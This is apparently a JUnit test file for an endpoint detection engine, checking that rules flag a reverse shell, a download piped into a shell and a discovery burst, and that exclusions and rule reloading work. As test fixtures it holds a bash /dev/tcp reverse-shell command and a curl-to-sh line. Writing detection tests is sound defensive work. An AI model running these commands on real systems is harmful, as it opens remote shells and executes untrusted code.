package dev.kiroku.server.detect;

import dev.kiroku.server.alerts.Alert;
import dev.kiroku.server.alerts.AlertQuery;
import dev.kiroku.server.alerts.Exclusion;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class DetectionTest {
    static final String REVSHELL = "28061025-6467-4ebf-bee9-cfa6d35c03ee";
    static final String CURL_PIPE = "0f4456d5-353b-43dd-aea5-41f644f4f523";
    static final String DISCOVERY_BURST = "8fe40e38-9aa1-47f8-bea6-8b9fc194654b";
    static final List<String> REVSHELL_ARGS = List.of("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");

    @TempDir
    Path data;
    Endpoint endpoint;
    Endpoint.Process sshd;
    Endpoint.Process shell;

    @BeforeEach
    void start() {
        endpoint = new Endpoint(data);
        sshd = endpoint.process("e-sshd", "/usr/sbin/sshd", List.of("sshd: alice [priv]"), null);
        shell = endpoint.process("e-shell", "/usr/bin/bash", List.of("-bash"), sshd);
    }

    @AfterEach
    void stop() {
        endpoint.close();
    }

    List<Alert> alerts() {
        endpoint.settle();
        return endpoint.detection.alerts().search(AlertQuery.all(100));
    }

    @Test
    void aReverseShellRaisesAnAlertWithRuleMetadataEndpointAndEvent() {
        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell);

        assertThat(alerts()).singleElement().satisfies(a -> {
            assertThat(a.kind()).isEqualTo(Alert.Kind.RULE);
            assertThat(a.rule().id()).isEqualTo(REVSHELL);
            assertThat(a.rule().title()).isEqualTo("Reverse Shell Via Bash /dev/tcp Redirection");
            assertThat(a.rule().level()).isEqualTo("critical");
            assertThat(a.rule().status()).isEqualTo("experimental");
            assertThat(a.rule().techniques()).contains("T1059.004", "T1095");
            assertThat(a.rule().tactics()).contains("execution", "command-and-control");
            assertThat(a.rule().references()).contains("https://attack.mitre.org/techniques/T1095/");
            assertThat(a.rule().author()).isEqualTo("Kiroku");
            assertThat(a.agentId()).isEqualTo(Endpoint.AGENT);
            assertThat(a.hostName()).isEqualTo(Endpoint.HOST);
            assertThat(a.processEntityId()).isEqualTo("e-rev1");
            assertThat(a.count()).isEqualTo(1);
            assertThat(a.events()).singleElement().satisfies(e -> {
                assertThat(e).containsEntry("process.entity_id", "e-rev1");
                assertThat(e).containsEntry("process.parent.executable", "/usr/bin/bash");
                assertThat((String) e.get("process.command_line")).contains("/dev/tcp/10.0.0.1/4444");
            });
        });
    }

    @Test
    void downloadPipedIntoAShellRaisesAnAlert() {
        endpoint.exec("e-curl", "/usr/bin/bash", List.of("bash", "-c", "curl http://203.0.113.9/x | sh"), shell);

        assertThat(alerts()).extracting(a -> a.rule().id()).contains(CURL_PIPE);
    }

    @Test
    void harmlessCommandsRaiseNothing() {
        endpoint.exec("e-ls", "/usr/bin/ls", List.of("ls", "-la"), shell);
        endpoint.exec("e-git", "/usr/bin/git", List.of("git", "status"), shell);

        assertThat(alerts()).isEmpty();
    }

    @Test
    void theSameProcessWithinTheWindowIsOneAlertAndAnotherProcessIsAnother() {
        Instant t0 = endpoint.now.get();
        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell, t0);
        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell, t0.plusSeconds(30));
        endpoint.exec("e-rev2", "/usr/bin/bash", REVSHELL_ARGS, shell, t0.plusSeconds(40));

        List<Alert> alerts = alerts();
        assertThat(alerts).hasSize(2);
        Alert first = alerts.stream().filter(a -> a.processEntityId().equals("e-rev1")).findFirst().orElseThrow();
        assertThat(first.count()).isEqualTo(2);
        assertThat(first.firstSeen()).isEqualTo(t0);
        assertThat(first.lastSeen()).isEqualTo(t0.plusSeconds(30));
        assertThat(first.events()).hasSize(2);
        assertThat(alerts).filteredOn(a -> a.processEntityId().equals("e-rev2")).singleElement()
                .satisfies(a -> assertThat(a.count()).isEqualTo(1));
    }

    @Test
    void anOccurrenceAfterTheWindowOpensANewAlert() {
        Instant t0 = endpoint.now.get();
        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell, t0);
        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell, t0.plus(Duration.ofMinutes(11)));

        assertThat(alerts()).hasSize(2).allSatisfy(a -> assertThat(a.count()).isEqualTo(1));
    }

    @Test
    void anExceptionOnTheParentExecutableSuppressesTheRuleOnly() {
        endpoint.detection.exclusions().add(new Exclusion(0, REVSHELL,
                List.of(new Exclusion.Condition("process.parent.executable", "/usr/bin/ba*", true)), "lab shells", Instant.EPOCH));

        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell);
        endpoint.exec("e-curl", "/usr/bin/bash", List.of("bash", "-c", "curl http://203.0.113.9/x | sh"), shell);

        assertThat(alerts()).extracting(a -> a.rule().id()).containsExactly(CURL_PIPE);
    }

    @Test
    void anExceptionOnTheGrandparentExecutableIsResolvedThroughTheStore() {
        endpoint.detection.exclusions().add(new Exclusion(0, null,
                List.of(new Exclusion.Condition("process.parent.parent.executable", "/usr/sbin/sshd", false)), null, Instant.EPOCH));
        Endpoint.Process cron = endpoint.process("e-cron", "/usr/sbin/cron", List.of("/usr/sbin/cron", "-f"), null);
        Endpoint.Process cronShell = endpoint.process("e-cron-sh", "/usr/bin/dash", List.of("/bin/sh", "-c", "job"), cron);

        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell);
        endpoint.exec("e-rev2", "/usr/bin/bash", REVSHELL_ARGS, cronShell);

        assertThat(alerts()).extracting(Alert::processEntityId).containsExactly("e-rev2");
    }

    @Test
    void aDisabledRuleRaisesNothingAndStaysDisabledAfterARestart() {
        endpoint.detection.rules().setEnabled(REVSHELL, false);
        endpoint.exec("e-rev1", "/usr/bin/bash", REVSHELL_ARGS, shell);
        assertThat(alerts()).isEmpty();

        endpoint.close();
        endpoint = new Endpoint(data);
        assertThat(endpoint.detection.rules().enabled(REVSHELL)).isFalse();
        endpoint.detection.rules().setEnabled(REVSHELL, true);
        endpoint.exec("e-rev2", "/usr/bin/bash", REVSHELL_ARGS, shell);
        assertThat(alerts()).extracting(Alert::processEntityId).containsExactly("e-rev2");
    }

    @Test
    void enablingAnUnknownRuleIsRefused() {
        assertThatThrownBy(() -> endpoint.detection.rules().setEnabled("no-such-rule", false))
                .isInstanceOf(NoSuchRuleException.class).hasMessageContaining("no-such-rule");
    }

    @Test
    void aBadUserRuleIsRefusedWithItsLineAndNothingIsStored() {
        String bad = """
                title: Broken
                id: 5b0e9d6c-0000-4000-8000-000000000001
                logsource:
                    product: linux
                    category: process_creation
                detection:
                    selection:
                        CommandLine|nosuchmodifier: 'x'
                    condition: selection
                level: high
                """;
        assertThatThrownBy(() -> endpoint.detection.rules().add("broken", bad))
                .isInstanceOfSatisfying(RuleRefusedException.class, e -> {
                    assertThat(e.problems()).isNotEmpty();
                    assertThat(e.problems().getFirst().file()).isEqualTo("user/broken.yml");
                    assertThat(e.problems().getFirst().line()).isEqualTo(8);
                    assertThat(e.getMessage()).contains("user/broken.yml:8").contains("nosuchmodifier");
                });
        assertThat(data.resolve("rules")).isEmptyDirectory();
    }

    @Test
    void aUserRuleIsAddedStoredAndFires() {
        List<String> ids = endpoint.detection.rules().add(null, userRule("5b0e9d6c-0000-4000-8000-000000000002", "kiroku-canary"));

        assertThat(ids).containsExactly("5b0e9d6c-0000-4000-8000-000000000002");
        assertThat(data.resolve("rules/5b0e9d6c-0000-4000-8000-000000000002.yml")).exists();
        endpoint.exec("e-canary", "/usr/bin/echo", List.of("echo", "kiroku-canary"), shell);
        assertThat(alerts()).singleElement().satisfies(a -> {
            assertThat(a.rule().id()).isEqualTo("5b0e9d6c-0000-4000-8000-000000000002");
            assertThat(a.rule().level()).isEqualTo("low");
        });
        assertThat(endpoint.detection.rules().current().entries().get("5b0e9d6c-0000-4000-8000-000000000002").source()).isEqualTo("user");
    }

    @Test
    void reloadPicksUpRuleFilesDroppedIntoTheDataDirectory() throws Exception {
        endpoint.exec("e-canary1", "/usr/bin/echo", List.of("echo", "kiroku-dropped"), shell);
        assertThat(alerts()).isEmpty();

        Files.writeString(data.resolve("rules/dropped.yml"), userRule("5b0e9d6c-0000-4000-8000-000000000003", "kiroku-dropped"));
        Files.writeString(data.resolve("rules/garbage.yml"), "title: [unclosed");
        LoadedRules loaded = endpoint.detection.rules().reload();

        assertThat(loaded.report().problems()).anySatisfy(p -> assertThat(p.file()).isEqualTo("user/garbage.yml"));
        assertThat(loaded.entries()).containsKey("5b0e9d6c-0000-4000-8000-000000000003").containsKey(REVSHELL);
        endpoint.exec("e-canary2", "/usr/bin/echo", List.of("echo", "kiroku-dropped"), shell);
        assertThat(alerts()).extracting(Alert::processEntityId).containsExactly("e-canary2");
    }

    @Test
    void aBurstOfDiscoveryCommandsRaisesACorrelationAlertWithItsGroupAndRules() {
        Endpoint.Process script = endpoint.process("e-recon", "/usr/bin/bash", List.of("bash", "recon.sh"), shell);
        Instant t0 = endpoint.now.get();
        List<String> tools = List.of("/usr/bin/id", "/usr/bin/whoami", "/usr/bin/uname", "/usr/bin/hostname", "/usr/sbin/ip");
        for (int i = 0; i < tools.size(); i++) {
            endpoint.exec("e-d" + i, tools.get(i), List.of(tools.get(i)), script, t0.plusSeconds(i));
        }

        assertThat(alerts()).singleElement().satisfies(a -> {
            assertThat(a.kind()).isEqualTo(Alert.Kind.CORRELATION);
            assertThat(a.rule().id()).isEqualTo(DISCOVERY_BURST);
            assertThat(a.group()).containsEntry("host.name", Endpoint.HOST).containsEntry("process.parent.entity_id", "e-recon");
            assertThat(a.contributingRules()).isNotEmpty().allMatch(r -> r.equals("6c44a2be-d757-4083-abab-41d4e5e582b7"));
            assertThat(a.hostName()).isEqualTo(Endpoint.HOST);
            assertThat(a.events()).singleElement().satisfies(e -> assertThat(e).containsEntry("process.executable", "/usr/sbin/ip"));
        });
    }

    static String userRule(String id, String marker) {
        return """
                title: Canary Command
                id: %s
                status: test
                author: tester
                tags:
                    - attack.execution
                    - attack.t1059
                logsource:
                    product: linux
                    category: process_creation
                detection:
                    selection:
                        CommandLine|contains: '%s'
                    condition: selection
                level: low
                """.formatted(id, marker);
    }
}
